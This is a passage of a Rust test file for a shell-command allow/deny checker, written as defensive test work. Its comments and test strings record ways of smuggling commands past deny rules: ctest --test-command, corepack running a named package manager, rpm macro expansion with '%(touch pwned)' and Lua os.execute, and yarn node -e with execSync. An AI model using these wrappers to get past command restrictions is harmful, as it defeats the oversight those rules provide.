            "cmake -S . -B build",
            "cmake -E echo hi",
            "cmake -E capabilities",
            "cmake -E compare_files a b",
            "cmake -E time ls",
            "cmake -DX=1 -E rm f",
            "ctest --output-on-failure",
            "ctest --build-and-test src bin --build-generator 'Unix Makefiles' --test-command ls",
        ],
    );
    // ctest's `--test-command` runs its command after the build.
    std::fs::create_dir_all(d.join("src")).unwrap();
    std::fs::write(
        d.join("src/CMakeLists.txt"),
        "cmake_minimum_required(VERSION 3.10)\nproject(p NONE)\n",
    )
    .unwrap();
    let line = "timeout 120 ctest --build-and-test src bin --build-generator 'Unix Makefiles' --test-command touch ../pwned";
    assert!(
        bash_creates_pwned(d, line, &[]),
        "ctest did not run its --test-command"
    );
    f.all(
        Action::Deny,
        &["ctest --build-and-test src bin --build-generator 'Unix Makefiles' --test-command rm x"],
    );
    f.never_allowed(&["ctest --build-and-test src bin $opt rm x"]);
}

/// Round 12. `corepack PM ARGS` runs the package manager PM with ARGS: the real corepack 0.34
/// ran `corepack pnpm@10.34.9 exec touch pwned` (by hand: it fetches pnpm from the registry,
/// which a test does not), read as `corepack` alone, so a `rm` deny rule missed `corepack pnpm
/// exec rm x`, and `corepack enable` (shims beside node, on the PATH) was allowed.
#[test]
fn corepack_runs_the_package_manager_it_names() {
    let f = allow_all();
    f.all(
        Action::Deny,
        &[
            "corepack pnpm exec rm x",
            "corepack pnpm@10.34.9 exec rm x",
            "corepack yarn exec rm x",
            "corepack npm exec -c 'rm x'",
        ],
    );
    f.never_allowed(&[
        "corepack enable",
        "corepack enable --install-directory ~/.local/bin",
        "corepack install -g pnpm@10",
        "corepack use pnpm@10",
        "corepack prepare --activate pnpm@10",
        "corepack pnpm install -g evil",
        "corepack $pm exec rm x",
    ]);
    f.all(
        Action::Allow,
        &[
            "corepack",
            "corepack --version",
            "corepack pnpm --version",
            "corepack pnpm run build",
        ],
    );
}

/// Round 12. rpm expands macros that run commands wherever it is given one: the real rpm
/// 4.18 ran `rpm --eval '%(touch pwned)'`, `rpm -E '%{lua: os.execute(…)}'` and `rpm -qa
/// --pipe CMD`; and `rpm -i`/`-U`/`-e` change the system's packages (as root, running their
/// scriptlets). All were allowed. Now only queries pass.
#[test]
fn rpm_passes_only_queries() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let home = d.to_str().unwrap();
    for line in [
        "rpm --eval '%(touch pwned)'",
        "rpm -E '%{lua: os.execute(\"touch pwned\")}'",
        "rpm -qa --pipe 'touch pwned'",
    ] {
        assert!(
            bash_creates_pwned(d, line, &[("HOME", home)]),
            "`{line}` did not run its command (rpm is Debian's `rpm`)"
        );
    }
    let f = allow_all();
    f.never_allowed(&[
        "rpm --eval '%(touch pwned)'",
        "rpm -E '%{lua: os.execute(\"touch pwned\")}'",
        "rpm -qa --pipe 'touch pwned'",
        "rpm -q --define 'x %(touch pwned)' bash",
        "rpm -i evil.rpm",
        "rpm -Uvh evil.rpm",
        "rpm -e bash",
        "rpm -V bash",
        "rpm --import key.asc",
        "rpm -qa --qf '%{NAME}'",
        "rpm -q --macros /tmp/e/m bash",
        "rpm $op bash",
        "rpmquery -a --pipe 'touch pwned'",
    ]);
    f.all(
        Action::Allow,
        &[
            "rpm -qa",
            "rpm -qi bash",
            "rpm -ql bash",
            "rpm -qf /usr/bin/bash",
            "rpm -qpR x.rpm",
            "rpm -q --changelog bash",
            "rpm --query --whatprovides /bin/sh",
            "rpm --version",
            "rpmquery -a",
        ],
    );
}

/// Round 12. `yarn node ARGS` runs node with ARGS: the real yarn 1.22 (by hand, from the npm
/// registry; not in test-deps) ran `yarn node -e "require('fs').writeFileSync('pwned','')"`.
/// It was read as `yarn node`, so node's inline code was never judged.
#[test]
fn yarn_node_runs_node_with_its_arguments() {
    let f = allow_all();
    f.never_allowed(&[
        "yarn node -e \"require('child_process').execSync('rm x')\"",
        "yarn node -p 1",
    ]);
    f.all(Action::Allow, &["yarn node x.js", "yarn node --version"]);
}
